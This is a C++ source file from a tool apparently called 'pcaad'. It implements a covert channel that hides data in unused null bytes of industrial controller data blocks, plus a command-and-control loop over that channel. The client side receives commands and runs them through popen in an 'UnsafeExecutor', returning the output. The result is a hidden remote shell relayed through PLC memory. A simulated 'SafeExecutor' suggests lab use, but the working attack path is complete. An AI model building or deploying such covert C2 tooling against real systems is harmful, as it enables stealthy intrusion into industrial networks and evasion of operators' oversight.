#include "pcaad/covert.hpp"

#include "pcaad/errors.hpp"

#include <algorithm>
#include <array>
#include <cstdio>
#include <fstream>
#include <iostream>
#include <poll.h>
#include <sstream>
#include <thread>
#include <unistd.h>

namespace pcaad {

using namespace std::chrono;

const char* role_name(Role r) { return r == Role::Server ? "server" : "client"; }

const char* sync_state_name(SyncState s) {
    switch (s) {
    case SyncState::Hello: return "hello";
    case SyncState::HelloAck: return "hello_ack";
    case SyncState::Write: return "write";
    case SyncState::Reading: return "reading";
    case SyncState::Read: return "read";
    case SyncState::FinalWrite: return "final_write";
    case SyncState::OnHold: return "on_hold";
    }
    return "?";
}

std::uint8_t sync_value(SyncState state, Role role) {
    if (role == Role::Server) {
        switch (state) {
        case SyncState::Hello: break; // the server never says hello
        case SyncState::HelloAck: return 0b00000011;
        case SyncState::Write: return 0b01000000;
        case SyncState::Reading: return 0b11110000;
        case SyncState::Read: return 0b00000000;
        case SyncState::FinalWrite: return 0b11111111;
        case SyncState::OnHold: return 0b00011000;
        }
        throw Error(ErrorCode::SyncViolation, "no server hello value");
    }
    switch (state) {
    case SyncState::Hello: return 0b00000001;
    case SyncState::HelloAck: return 0b00000000;
    case SyncState::Write: return 0b11100000;
    case SyncState::Reading: return 0b01100000;
    case SyncState::Read: return 0b00000000;
    case SyncState::FinalWrite: return 0b11111110;
    case SyncState::OnHold: return 0b00011000;
    }
    throw Error(ErrorCode::SyncViolation, "bad sync state");
}

bool in_sync_alphabet(std::uint8_t value, Role role) {
    static constexpr std::array kStates = {SyncState::Hello,     SyncState::HelloAck,
                                           SyncState::Write,     SyncState::Reading,
                                           SyncState::Read,      SyncState::FinalWrite,
                                           SyncState::OnHold};
    for (const SyncState s : kStates) {
        if (role == Role::Server && s == SyncState::Hello) continue;
        if (sync_value(s, role) == value) return true;
    }
    return false;
}

ChannelSpec select_channel(const std::vector<BlockFinding>& findings,
                           const std::vector<DbLayout>& layouts) {
    const DbLayout* best = nullptr;
    std::uint16_t best_db = 0;
    for (const BlockFinding& f : findings) {
        if (f.verdict != Verdict::Identified) continue;
        const auto it = std::find_if(layouts.begin(), layouts.end(), [&](const DbLayout& l) {
            return l.fb_name == f.candidates.front();
        });
        if (it == layouts.end()) continue;
        if (it->whole_block_sensitive) continue; // null writes would change behavior
        if (it->full_null_bytes.size() < 2) continue;
        const bool wins = !best ||
                          it->full_null_bytes.size() > best->full_null_bytes.size() ||
                          (it->full_null_bytes.size() == best->full_null_bytes.size() &&
                           f.db < best_db);
        if (wins) {
            best = &*it;
            best_db = f.db;
        }
    }
    if (!best)
        throw Error(ErrorCode::NoViableChannel, "no identified block offers two null bytes");
    ChannelSpec spec;
    spec.db = best_db;
    spec.sync_offset = best->full_null_bytes[0];
    spec.data_offset = best->full_null_bytes[1];
    spec.fb_name = best->fb_name;
    return spec;
}

void Transcript::append(TranscriptEntry e) {
    std::lock_guard lock(mu_);
    events_.push_back(std::move(e));
}

std::vector<TranscriptEntry> Transcript::snapshot() const {
    std::lock_guard lock(mu_);
    return events_;
}

std::string Transcript::to_jsonl() const {
    std::ostringstream out;
    for (const auto& e : snapshot()) {
        out << "{\"t_us\":" << e.t_us << ",\"role\":\"" << role_name(e.role) << "\",\"event\":\""
            << e.event << "\",\"value\":" << static_cast<int>(e.value);
        if (!e.text.empty()) out << ",\"text\":\"" << e.text << "\"";
        out << "}\n";
    }
    return out.str();
}

void Transcript::save(const std::string& path) const {
    std::ofstream out(path, std::ios::binary);
    if (!out) throw Error(ErrorCode::ConfigInvalid, "cannot write transcript " + path);
    out << to_jsonl();
}

ChannelEndpoint::ChannelEndpoint(spp::SppClient& client, ChannelSpec spec, Role role,
                                 Transcript* transcript)
    : client_(client), spec_(std::move(spec)), role_(role), transcript_(transcript),
      start_(steady_clock::now()) {}

void ChannelEndpoint::record(const char* event, std::uint8_t value) {
    if (!transcript_) return;
    TranscriptEntry e;
    e.t_us = duration_cast<microseconds>(steady_clock::now() - start_).count();
    e.role = role_;
    e.event = event;
    e.value = value;
    transcript_->append(std::move(e));
}

void ChannelEndpoint::note(const std::string& text) {
    if (!transcript_) return;
    TranscriptEntry e;
    e.t_us = duration_cast<microseconds>(steady_clock::now() - start_).count();
    e.role = role_;
    e.event = "note";
    e.text = text;
    transcript_->append(std::move(e));
}

std::uint8_t ChannelEndpoint::read_sync() {
    const Bytes b = client_.read_bytes(spec_.db, spec_.sync_offset, 1);
    if (b[0] != last_seen_) {
        record("read_sync", b[0]);
        last_seen_ = b[0];
    }
    return b[0];
}

void ChannelEndpoint::write_sync(std::uint8_t value) {
    const std::uint8_t one[1] = {value};
    client_.write_bytes(spec_.db, spec_.sync_offset, one);
    last_written_ = value;
    record("write_sync", value);
}

void ChannelEndpoint::write_data(std::uint8_t value) {
    const std::uint8_t one[1] = {value};
    client_.write_bytes(spec_.db, spec_.data_offset, one);
    record("write_data", value);
}

std::uint8_t ChannelEndpoint::read_data() {
    const Bytes b = client_.read_bytes(spec_.db, spec_.data_offset, 1);
    record("read_data", b[0]);
    return b[0];
}

void ChannelEndpoint::sleep_poll() const {
    std::this_thread::sleep_for(milliseconds(spec_.poll_interval_ms));
}

std::uint8_t ChannelEndpoint::wait_for(std::initializer_list<std::uint8_t> expected,
                                       std::initializer_list<std::uint8_t> allowed,
                                       int max_polls) {
    const std::uint8_t hold = sync_value(SyncState::OnHold, role_);
    int silent = 0;
    for (;;) {
        const std::uint8_t b = read_sync();
        if (std::find(expected.begin(), expected.end(), b) != expected.end()) return b;
        if (b == hold) {
            silent = 0; // peer is alive, just idle
        } else if (b == last_written_) {
            ++silent;
        } else if (std::find(allowed.begin(), allowed.end(), b) != allowed.end()) {
            silent = 0;
        } else {
            throw Error(ErrorCode::SyncViolation,
                        "unexpected sync byte " + std::to_string(b) + " while " +
                            role_name(role_));
        }
        if (max_polls > 0 && silent >= max_polls)
            throw Error(ErrorCode::ChannelTimeout,
                        "peer silent for " + std::to_string(silent) + " polls");
        sleep_poll();
    }
}

void ChannelEndpoint::handshake(int max_polls) {
    const Role peer_role = peer();
    if (role_ == Role::Client) {
        write_sync(sync_value(SyncState::Hello, role_));
        wait_for({sync_value(SyncState::HelloAck, peer_role)}, {}, max_polls);
        write_sync(sync_value(SyncState::HelloAck, role_));
    } else {
        wait_for({sync_value(SyncState::Hello, peer_role)},
                 {sync_value(SyncState::Read, peer_role)}, max_polls);
        write_sync(sync_value(SyncState::HelloAck, role_));
        // a fast peer may have overwritten its HelloAck with the first
        // message marker already; either way the handshake landed
        wait_for({sync_value(SyncState::HelloAck, peer_role),
                  sync_value(SyncState::Write, peer_role),
                  sync_value(SyncState::FinalWrite, peer_role)},
                 {}, max_polls);
    }
    handshake_done_ = true;
    note("handshake complete");
}

namespace {

bool transmissible(unsigned char c) {
    return (c >= 0x20 && c <= 0x7e) || c == '\t' || c == '\n' || c == '\r';
}

} // namespace

std::string ascii_sanitize(const std::string& text) {
    std::string out = text;
    for (char& c : out)
        if (!transmissible(static_cast<unsigned char>(c))) c = '?';
    return out;
}

void ChannelEndpoint::send_text(const std::string& text) {
    for (const char c : text)
        if (!transmissible(static_cast<unsigned char>(c)))
            throw Error(ErrorCode::NonAscii, "text is not printable ASCII");

    const Role peer_role = peer();
    for (const char c : text) {
        write_data(static_cast<std::uint8_t>(c));
        write_sync(sync_value(SyncState::Write, role_));
        // the receiver flags Reading while it consumes, then settles to Read
        wait_for({sync_value(SyncState::Read, peer_role)},
                 {sync_value(SyncState::Reading, peer_role)}, spec_.max_silent_polls);
    }
    write_sync(sync_value(SyncState::FinalWrite, role_));
}

std::string ChannelEndpoint::recv_text(int first_wait_polls) {
    const Role peer_role = peer();
    const std::uint8_t peer_write = sync_value(SyncState::Write, peer_role);
    const std::uint8_t peer_final = sync_value(SyncState::FinalWrite, peer_role);
    const std::uint8_t peer_read = sync_value(SyncState::Read, peer_role);

    std::string text;
    for (bool first = true;; first = false) {
        const std::uint8_t b = wait_for({peer_write, peer_final}, {peer_read},
                                        first ? first_wait_polls : spec_.max_silent_polls);
        if (b == peer_final) return text;
        text.push_back(static_cast<char>(read_data()));
        write_sync(sync_value(SyncState::Reading, role_));
        write_sync(sync_value(SyncState::Read, role_));
    }
}

void ChannelEndpoint::write_on_hold() {
    const std::uint8_t hold = sync_value(SyncState::OnHold, role_);
    if (last_written_ != hold) write_sync(hold);
}

std::string SafeExecutor::execute(const std::string& command) {
    std::istringstream in(command);
    std::vector<std::string> words;
    for (std::string w; in >> w;) words.push_back(w);
    if (words.empty()) return "command not permitted";

    if (words[0] == "ping" && words.size() >= 2)
        return "reply from " + words[1] + ": time<1ms";
    if (words[0] == "echo") {
        std::string out;
        for (std::size_t i = 1; i < words.size(); ++i) {
            if (i > 1) out += ' ';
            out += words[i];
        }
        return out;
    }
    if (words[0] == "id") return "uid=1000(operator) gid=1000(operator) groups=1000(operator)";
    return "command not permitted";
}

std::string UnsafeExecutor::execute(const std::string& command) {
    FILE* pipe = ::popen((command + " 2>&1").c_str(), "r");
    if (!pipe) throw Error(ErrorCode::Refused, "cannot spawn shell");
    std::string out;
    char buf[256];
    while (std::fgets(buf, sizeof buf, pipe)) out += buf;
    ::pclose(pipe);
    while (!out.empty() && (out.back() == '\n' || out.back() == '\r')) out.pop_back();
    return out.empty() ? "(no output)" : out;
}

std::optional<std::string> StdioConsole::poll_line() {
    if (eof_) return std::nullopt;
    pollfd pfd{STDIN_FILENO, POLLIN, 0};
    if (::poll(&pfd, 1, 50) != 1) return std::nullopt;
    std::string line;
    if (!std::getline(std::cin, line)) {
        eof_ = true;
        return std::nullopt;
    }
    return line;
}

bool StdioConsole::eof() { return eof_; }

void StdioConsole::print(const std::string& line) { std::cout << line << "\n" << std::flush; }

std::optional<std::string> ScriptedConsole::poll_line() {
    if (next_ >= lines_.size()) return std::nullopt;
    return lines_[next_++];
}

int run_c2_server(ChannelEndpoint& endpoint, Console& console, const C2Options& options) {
    if (!endpoint.handshake_done()) endpoint.handshake(options.hello_timeout_polls);
    int served = 0;
    while (options.max_commands == 0 || served < options.max_commands) {
        const auto line = console.poll_line();
        if (!line) {
            if (console.eof()) break;
            endpoint.write_on_hold();
            endpoint.sleep_poll();
            continue;
        }
        if (line->empty()) continue;
        endpoint.send_text(*line);
        console.print(endpoint.recv_text());
        ++served;
    }
    return served;
}

int run_c2_client(ChannelEndpoint& endpoint, CommandExecutor& executor,
                  const C2Options& options) {
    if (!endpoint.handshake_done()) endpoint.handshake(options.hello_timeout_polls);
    int served = 0;
    while (options.max_commands == 0 || served < options.max_commands) {
        const std::string command = endpoint.recv_text(0);
        std::string response;
        try {
            response = executor.execute(command);
        } catch (const std::exception& e) {
            response = std::string("error: ") + e.what();
        }
        endpoint.send_text(ascii_sanitize(response));
        ++served;
    }
    return served;
}

} // namespace pcaad
